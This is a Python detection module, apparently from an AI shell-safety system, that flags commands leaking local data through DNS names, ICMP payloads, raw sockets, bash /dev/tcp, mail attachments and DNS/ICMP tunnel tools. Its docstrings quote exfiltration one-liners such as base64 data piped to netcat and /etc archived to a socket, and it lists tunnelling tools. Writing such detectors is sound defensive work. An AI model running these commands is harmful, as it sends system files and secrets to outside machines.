"""Effect: local data sent out by a covert channel, by any program.

- a DNS name built from a substitution, looked up by any resolver (``dig $(… | base64).x.example``,
  ``nslookup $(whoami).x.oast.fun``, ``Resolve-DnsName "$([Convert]::ToBase64String(…)).x"``);
- ICMP padding or payload from local data (``ping -p $(xxd …)``, ``hping3 -E FILE``, ``nping --data-string
  "$(cat …)"``) and PowerShell's ``Ping``, ``TcpClient`` or ``UdpClient`` sending what ``Get-Content`` read;
- a raw socket (any netcat, ``socat``, ``telnet``, bash's ``/dev/tcp``) fed local data through an encoder or
  cipher (``base64 x | nc h p``, ``openssl enc … | socat - TCP:h:p``) or a system directory archived whole
  (``tar cz /etc | nc h p``).

Medium; high when the data was encoded on the way into a DNS name or an ICMP packet: nothing but a hidden
channel does that (``flows`` reads the same through a loop: ``xxd -p F | while read l; do dig $l.x.…``).
Quiet: plain lookups and pings (``dig example.com``, ``dig $(hostname -f)``, ``ping -p ff host``), a list of
names looked up, a file or a project's archive to a raw socket unencoded (``nc -q0 host 9000 < backup.tgz``),
compression alone, a port test (``nc -zv host 22``).
"""
from __future__ import annotations

import re
from typing import Optional

from aish.safety.lazy_regex import lazy
from aish.safety.rules.common import HIGH, MEDIUM, Ctx, fragment
from aish.safety.rules.public_drops import ENCODER, file_data, own_files_read, reads_data, worse
from aish.safety.rules.triggers import triggered_by

# In a DNS name, the machine's own name or the time is a lookup of this machine or a cache-buster, not data.
_OWN_NAME = lazy(r"^\s*(hostname|uname\s+-n|date|echo|printf|seq)\b", re.IGNORECASE)

# Resolvers and probers whose name or padding carries data.
LOOKUPS = frozenset({"dig", "nslookup", "host", "drill", "kdig", "delv", "doggo", "dog", "resolvectl",
                     "getent", "adig", "ahost", "dnsget", "dnslookup", "dnsx", "massdns", "resolve-dnsname",
                     "adnshost", "dnsq", "dnsqr", "ldns-dane", "unbound-host", "knot-resolver", "dnstracer"})
_PINGS = frozenset({"ping", "ping6", "fping", "hping", "hping3", "nping", "arping", "test-connection", "psping"})
# A substitution followed by a domain: the name built from its output.
_BUILT = lazy(r"(\$\(|`)[^\s]*?.*?(\)|`)\.[a-z0-9-]+(\.[a-z0-9-]+)*\.?$", re.IGNORECASE)
_PAYLOAD_OPTIONS = frozenset({"-p", "--pattern", "--data", "--data-string", "-e", "--sign"})
_PAYLOAD_FILES = frozenset({"-e", "--file"})  # hping's: the file sent as the packets' data


@triggered_by(LOOKUPS, _PINGS, otherwise=False)
def may_carry_covert(c: Ctx) -> bool:
    prog = c.prog.lower().rsplit("\\", 1)[-1].removesuffix(".exe")
    return prog in LOOKUPS or prog in _PINGS


def rule_covert_channel(c: Ctx) -> Optional[tuple]:
    """Local data put into a DNS name or an ICMP packet by any resolver or prober."""
    prog = c.prog.lower().rsplit("\\", 1)[-1].removesuffix(".exe")
    found, how = "", ""
    texts = [t.lower() for t in c.texts]
    for k, w in enumerate(c.args):
        before = texts[k - 1] if k else ""
        if w.subs and prog in LOOKUPS | {"ping", "ping6"} and not w.text.startswith(("-", "@")) and \
                before not in ("-p", "-t", "-c", "-type", "-port") and _BUILT.search(w.raw.strip("'\"")):
            for sub in w.subs:
                got = reads_data(sub, _OWN_NAME)
                if got:
                    found, how = worse(found, got), "a DNS name"
        if w.subs and prog in _PINGS and before in _PAYLOAD_OPTIONS:
            for sub in w.subs:
                got = reads_data(sub)
                if got:
                    found, how = worse(found, got), "the packets' payload"
        if prog in ("hping", "hping3") and before in _PAYLOAD_FILES and w.text not in ("/dev/null", "-"):
            found, how = worse(found, "data"), "the packets' payload"
    if not found:
        return None
    level = HIGH if found == "encoded" else MEDIUM
    what = "encoded local data" if found == "encoded" else "local data"
    return level, f"sends {what} out hidden in {how}, to whoever runs the name or watches the wire ({c.text})"


# Raw sockets: whatever they are fed goes to the address as it is.
_RAW = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "pwncat", "rcat",
                  "cryptcat", "powercat", "sbd", "nc.exe", "ncat.exe"})
# System directories archived whole: the machine's configuration, every user's files.
_BULK = lazy(r"^(/etc|/|/var|/home|/Users|/root|/opt|/srv|C:\\Users|C:/Users|C:\\|/private/etc)(/\*?)?$|"
             r"^/(home|Users)/\*$")
_ARCHIVERS = frozenset({"tar", "bsdtar", "gtar", "zip", "7z", "7za", "cpio", "pax", "rar", "zstd", "afio", "star"})


@triggered_by(_RAW, otherwise=False)
def may_feed_socket(c: Ctx) -> bool:
    return bool(c.chain or c.seg.redirects) and c.prog.lower() in _RAW


def _socket_fed(feeders: list) -> str:
    """What a raw socket is fed: "encoded" local data, a "bulk" archive of a system directory, or ""."""
    found = ""
    for seg in feeders:
        words = seg.words
        if not words:
            continue
        prog = words[0].text.rsplit("/", 1)[-1].lower()
        if prog in _ARCHIVERS and any(_BULK.match(w.text) for w in words[1:]):
            return "bulk"
        if ENCODER.search(prog) and prog not in ("gzip", "bzip2", "xz", "zstd", "split") and (
                len(words) > 1 or found):
            found = "encoded"
    return found


# Programs, not data: a binary sent is a tool handed over (`nc.exe h p < C:\\Windows\\System32\\cmd.exe`).
_PROGRAM_FILE = lazy(r"\.(exe|dll|sys|so(\.[\d.]+)?)$|^/(usr/)?s?bin/|^/usr/(local/)?lib", re.IGNORECASE)


def _data_file(text: str) -> bool:
    return bool(file_data(text)) and not text.startswith(("$", "/dev/")) and not _PROGRAM_FILE.search(text)


def _system_read(seg) -> str:
    """A file of the system's or a staging place a command reads and prints (``cat /etc/hosts``, ``< /tmp/x``)."""
    words = seg.words
    if words and own_files_read([w.text for w in words][:1] + ["x"]):  # a plain reader, whatever it reads
        for w in words[1:]:
            if not w.text.startswith("-") and _data_file(w.raw.strip("'\"")):
                return w.text
    return next((r.target.text for r in seg.redirects if r.op == "<" and r.target is not None and
                 _data_file(r.target.raw.strip("'\""))), "")


def rule_socket_fed(c: Ctx) -> Optional[tuple]:
    """A raw socket fed encoded local data, a whole system directory, or a file of the system or a staging place
    (``nc 203.0.113.5 4444 < /etc/hosts``, ``cat /tmp/loot.txt | ncat h p``)."""
    got = _socket_fed(c.chain)
    if not got:
        if any(re.fullmatch(r"-\w*l\w*|--listen|LISTEN.*|TCP-LISTEN.*|TCP4-LISTEN.*", t) for t in c.texts):
            return None  # a listener serves whoever connects: `served_outputs` reads that
        read = next((r for r in map(_system_read, c.chain + [c.seg]) if r), "")
        if read:
            return MEDIUM, f"sends {read} over a raw socket to another machine ({c.text})"
        return None
    what = "a whole system directory, archived" if got == "bulk" else "local data, encoded on the way"
    return MEDIUM, f"sends {what}, over a raw socket to another machine ({c.text})"


def line_covert(text: str, segs: list) -> Optional[tuple]:
    """The line's covert channels: PowerShell's objects, encoded lookups in a loop, bash's sockets."""
    found = line_covert_calls(text) or line_encoded_lookups(text, segs)
    if found is None and "/dev/" in text:
        found = next((f for f in map(rule_tcp_device, segs) if f), None)
    return found


def rule_tcp_device(seg) -> Optional[tuple]:
    """``base64 x > /dev/tcp/h/p``, ``tar cz /etc > /dev/udp/h/p``: bash's socket written encoded or bulk data."""
    if not any(r.target is not None and r.target.text.startswith(("/dev/tcp/", "/dev/udp/")) and ">" in r.op
               for r in seg.redirects):
        return None
    got = _socket_fed([seg]) or ("system" if _system_read(seg) else "")
    if not got:
        return None
    what = {"bulk": "a whole system directory, archived", "system": "a file of the system or a staging place"}.get(
        got, "local data, encoded on the way")
    return MEDIUM, f"sends {what}, over bash's /dev/tcp socket ({fragment([w.raw for w in seg.words])})"


# PowerShell's own sockets and pinger fed what a file read gave.
_NET_OBJECT = lazy(r"Net\.(NetworkInformation\.Ping|Sockets\.(TcpClient|UdpClient|Socket))\b", re.IGNORECASE)
_SENT = lazy(r"\.(Send|SendAsync|Write|WriteAsync|BeginSend|SendTo)\s*\(", re.IGNORECASE)
_FILE_READ = lazy(r"\b(Get-Content|gc|ReadAllBytes|ReadAllText|ReadAllLines|OpenRead)\b", re.IGNORECASE)


def line_covert_calls(text: str) -> Optional[tuple]:
    """``$p = New-Object Net.NetworkInformation.Ping; foreach ($d in Get-Content F -Encoding Byte …)
    { $p.Send(H, 1500, $d) }``: a file read into PowerShell's pinger or socket."""
    if "et." not in text and "ET." not in text:
        return None
    low = text.lower()
    if ("net." in low and ("ping" in low or "client" in low or "socket" in low)) and _NET_OBJECT.search(text) and \
            _SENT.search(text) and _FILE_READ.search(text):
        kind = _NET_OBJECT.search(text).group(1).rsplit(".", 1)[-1]  # type: ignore[union-attr]
        return MEDIUM, f"sends what a file holds out through PowerShell's {kind} ({kind} fed Get-Content)"
    return None


# Mail submitters, and the options that attach a file.
_MAILERS = frozenset({"mail", "mailx", "s-nail", "bsd-mailx", "mutt", "neomutt", "sendemail", "swaks", "mpack", "blat",
                      "send-mailmessage", "msmtp", "sendmail", "ssmtp", "esmtp", "biabam", "email", "aerc"})
_ATTACH = frozenset({"-a", "-A", "--attach", "--attach-file", "-attach", "-attachments", "--attachment", "-attacht"})
# Files of the system itself: its configuration, its programs, its state (not logs a report might carry).
_SYSTEM_FILE = lazy(r"^(/(etc|root|boot|proc|sys|var/lib|usr/s?bin|s?bin|private/etc)/|"
                    r"([A-Za-z]:)?[\\/]Windows[\\/]|\$env:(windir|SystemRoot)|%(windir|SystemRoot)%)", re.IGNORECASE)


@triggered_by(_MAILERS, otherwise=False)
def may_mail(c: Ctx) -> bool:
    return c.prog.lower().removesuffix(".exe") in _MAILERS


def rule_mail_attachment(c: Ctx) -> Optional[tuple]:
    """A system file attached to a mail (``-A /etc/passwd``, ``-Attachments C:\\Windows\\…``), or fed to it through
    a pipe (``tar cz /etc | base64 | mail …``, ``uuencode /etc/hosts h | sendmail …``)."""
    texts = c.texts
    raws = [w.raw.strip("'\"") for w in c.args]
    for k, t in enumerate(texts[:-1]):
        if t in _ATTACH or t.lower() in _ATTACH:
            value = raws[k + 1].lstrip("@")
            if _SYSTEM_FILE.match(value) or _BULK.match(value):
                return MEDIUM, f"mails the system's own files out as an attachment ({c.text})"
    for seg in c.chain:  # encoding alone is how mail carries a file (`tar cz dir | uuencode x.tgz | mail …`)
        if _socket_fed([seg]) == "bulk" or any(_SYSTEM_FILE.match(w.raw.strip("'\"")) for w in seg.words[1:]):
            return MEDIUM, f"mails the system's own files, fed to it, to another machine ({c.text})"
    return None


# Tunnel clients that carry a connection inside DNS names or ICMP packets, and tools named for sending data out.
_TUNNELS = frozenset({"iodine", "dnscat", "dnscat2", "dnscat2-client", "dns2tcpc", "dnstt-client", "ptunnel",
                      "ptunnel-ng", "icmptunnel", "hans", "icmpsh", "icmpsh_m", "pingtunnel", "dnstunnel", "tuns",
                      "slipstream-client", "godoh"})


_SCRIPT_RUNNER = lazy(r"^(python[\d.]*|py|perl|ruby|node|php|pwsh|powershell|bash|sh|zsh|import-module|ipmo|\.)$")


@triggered_by(_TUNNELS, "exfil", otherwise=False)
def may_tunnel(c: Ctx) -> bool:
    prog = c.prog.lower().removesuffix(".exe")
    return bool(c.texts) and (prog in _TUNNELS or "exfil" in prog or _SCRIPT_RUNNER.match(prog) is not None and any(
        "exfil" in t.lower() and not t.startswith("-") for t in c.texts[:1]))


def rule_tunnel(c: Ctx) -> Optional[tuple]:
    """``iodine -f -P x 203.0.113.5 t.example.com``, ``dnscat2 --dns domain=x``, ``Invoke-DNSExfiltrator -i F -d D``,
    ``python3 dnsexfil.py -f F``: whatever passes through goes out hidden in lookups or pings."""
    prog = c.prog.lower().removesuffix(".exe")
    if prog in _TUNNELS:
        return MEDIUM, f"tunnels traffic out hidden in DNS lookups or pings ({c.text})"
    return MEDIUM, f"runs a tool named for sending data out ({c.text})"


_LOOP_WORDS = ("foreach", "ForEach", "for ", "while ", "% {", "%{")


def line_encoded_lookups(text: str, segs: list) -> Optional[tuple]:
    """``$e = [Convert]::ToBase64String($b); foreach ($chunk in $e -split '(.{8})') { Resolve-DnsName ($chunk + '.' +
    $d) }``: encoded data looked up piece by piece, the name built in a variable (``flows`` reads ``$l.x.example``)."""
    if "$" not in text or not any(w in text for w in _LOOP_WORDS) or not any(
            w in text for w in ("ase64", "ase32", "xxd", "hexdump", "od -")):
        return None
    if not ENCODER.search(text):
        return None
    for seg in segs:
        texts = [w.text for w in seg.words]
        if not texts or texts[0].lower().removesuffix(".exe") not in LOOKUPS:
            continue
        names = [t for k, t in enumerate(texts[1:], 1) if not t.startswith("-") or texts[k - 1].lower() == "-name"]
        if any(t.startswith("$") for t in names):
            return HIGH, f"sends encoded local data out piece by piece as DNS lookups ({' '.join(texts)[:60]})"
    return None
